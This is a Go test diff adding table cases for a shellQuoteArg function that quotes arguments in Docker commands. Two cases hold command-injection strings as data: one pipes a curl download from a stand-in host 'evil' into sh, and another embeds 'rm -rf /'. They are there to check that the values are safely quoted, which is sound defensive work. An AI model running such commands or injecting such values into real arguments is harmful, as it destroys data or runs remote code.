@@ -298,3 +298,24 @@ func TestBuildDockerCommandWithExpandableVars_UnbracedVariable(t *testing.T) {
 		t.Errorf("Unbraced $GITHUB_WORKSPACE should be quoted normally (not preserved for expansion), got %q, expected %q", result, expected)
 	}
 }
+
+func TestShellQuoteArg(t *testing.T) {
+	tests := []struct {
+		name     string
+		input    string
+		expected string
+	}{
+		{name: "plain image", input: "ghcr.io/github/github-mcp-server:v1", expected: "ghcr.io/github/github-mcp-server:v1"},
+		{name: "command separator", input: "x; curl evil|sh", expected: "'x; curl evil|sh'"},
+		{name: "pre-quoted is still quoted", input: `"a"; rm -rf /; "b"`, expected: `'"a"; rm -rf /; "b"'`},
+		{name: "single quote", input: "a'b", expected: `'a'\''b'`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := shellQuoteArg(tt.input); got != tt.expected {
+				t.Errorf("shellQuoteArg(%q) = %q, want %q", tt.input, got, tt.expected)
+			}
+		})
+	}
+}